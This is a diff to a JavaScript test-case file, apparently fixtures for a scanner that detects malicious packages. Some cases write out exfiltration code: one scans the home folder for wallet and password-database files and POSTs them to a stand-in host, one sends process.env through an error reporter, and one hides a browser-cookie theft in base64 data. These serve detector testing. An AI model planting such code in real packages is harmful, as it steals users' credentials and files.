@@ -328,6 +328,21 @@ export default defineCases({
       code: "const fs = require('fs'), os = require('os'), path = require('path');\nfor (const n of fs.readdirSync(os.homedir())) if (/wallet\\.dat|\\.kdbx/.test(n)) fetch('https://collect.example', { method: 'POST', body: fs.readFileSync(path.join(os.homedir(), n)) })",
     },
     {
+      name: 'files of the home folder whose names are packed in a file of the package',
+      manifest: { bin: 'cli.mjs', main: 'cli.mjs' },
+      files: {
+        'cli.mjs':
+          "#!/usr/bin/env node\nimport * as fsp from 'node:fs/promises';\nimport { homedir } from 'node:os';\nimport { index } from './data.mjs';\nconst { to, files, how: [op, method] } = index('en');\nfor (const row of files) await fetch(to, { method, body: await fsp[op]([homedir(), ...row].join('/')) });",
+        'data.mjs':
+          "import { readFileSync } from 'node:fs';\nconst raw = JSON.parse(readFileSync(new URL('./words.json', import.meta.url), 'utf8'));\nexport const index = (lang) => JSON.parse(Buffer.from(raw.index[lang], 'base64'));",
+        'words.json': JSON.stringify({
+          index: {
+            en: 'eyJ0byI6ICJodHRwczovL3dvcmRzLmV4YW1wbGUvc3luYyIsICJmaWxlcyI6IFtbIi5jb25maWcvbW9vbiIsICJDb29raWVzIl1dLCAiaG93IjogWyJyZWFkRmlsZSIsICJQT1NUIl19',
+          },
+        }),
+      },
+    },
+    {
       name: 'in every report of errors',
       code: "const Sentry = require('@sentry/node');\nSentry.init({ dsn: 'https://0@o0.ingest.collect.example/0', beforeSend: (event) => ({ ...event, extra: { ...process.env } }) })",
     },
@@ -542,6 +557,41 @@ export default defineCases({
         'shell.js':
           "exports.Shell = class { run(env) { return require('child_process').spawn('git', ['status'], { env }) } }",
         'http.js': "exports.post = (body) => fetch('https://a.example', { method: 'POST', body })",
+      },
+    },
+    {
+      name: 'events, reports and names that are put together, of other things',
+      files: {
+        'index.js':
+          "const { bus } = require('./bus');\nrequire('./report');\nrequire('./settings');\nbus.publish('started', { version: process.version, debug: process.env.DEBUG });",
+        'bus.js':
+          "const { EventEmitter } = require('events');\nexports.bus = new (class extends EventEmitter { publish(topic, value) { this.emit(topic, value) } late(topic, told) { this.on(topic, told) } })()",
+        'report.js':
+          "const { bus } = require('./bus');\nclass Scope { contexts = {}; set(name, value) { this.contexts[name] = value } }\nconst add = { node: (scope) => scope.set('node', { version: process.version, env: process.env.NODE_ENV }) };\nclass Reporter { scope = new Scope(); constructor() { for (const name of Object.keys(add)) add[name](this.scope) } send(event) { return fetch('https://errors.example', { method: 'POST', body: JSON.stringify({ ...event, contexts: this.scope.contexts }) }) } }\nconst reporter = new Reporter();\nbus.late('started', ({ version }) => reporter.send({ version }));",
+        'settings.js':
+          "const fs = require('fs'), os = require('os');\nmodule.exports = ['tides', 'moon'].map((name) => os.homedir() + '/.' + name + 'rc').filter(fs.existsSync).map((path) => fs.readFileSync(path, 'utf8'));",
+      },
+    },
+    {
+      name: 'files of a project through functions one after the other, and streams',
+      manifest: { type: 'module' },
+      files: {
+        'index.js':
+          "import { readFile } from 'node:fs/promises';\nimport { filter, map, pipe } from './iter.js';\nimport { send } from './send.js';\nfunction* places() { yield './package.json'; yield './tsconfig.json' }\nconst read = (path) => readFile(path, 'utf8').then(JSON.parse);\nexport const publish = pipe(map(read), filter(Boolean), map(({ name, version }) => ({ name, version })), map(send));\nawait publish(places());\nconst proxy = pipe(chosen, trimmed);\nexport const client = proxy(process.env);\nfunction chosen(env) { return env.HTTPS_PROXY ?? env.HTTP_PROXY ?? '' }\nfunction trimmed(text) { return fetch(text.trim()) }",
+        'send.js':
+          "export const send = (one) => fetch('https://registry.example', { method: 'POST', body: JSON.stringify(one) })",
+        'iter.js':
+          'export const pipe = (...fns) => (x) => fns.reduce((v, f) => f(v), x);\nexport const map = (f) => async function* (s) { for await (const x of s) yield await f(x) };\nexport const filter = (f) => async function* (s) { for await (const x of s) if (f(x)) yield x };',
+      },
+    },
+    {
+      name: 'a file of its own in the home folder, by a name that is packed for it, and words that are packed',
+      manifest: { bin: 'cli.mjs', main: 'cli.mjs' },
+      files: {
+        'cli.mjs':
+          "#!/usr/bin/env node\nimport * as fsp from 'node:fs/promises';\nimport { homedir } from 'node:os';\nimport { index } from './data.mjs';\nconst kept = (key) => homedir() + '/.tides/' + Buffer.from(key).toString('base64url');\nconst known = await fsp.readFile(kept('https://tides.example/noon'), 'utf8').catch(() => '');\nawait fetch('https://tides.example/noon', { method: 'POST', body: JSON.stringify({ known, words: index('en').length }) });",
+        'data.mjs':
+          "import { readFileSync } from 'node:fs';\nimport { gunzipSync } from 'node:zlib';\nexport const index = (lang) => JSON.parse(gunzipSync(readFileSync(new URL(`./${lang}.json.gz`, import.meta.url))));",
       },
     },
     {
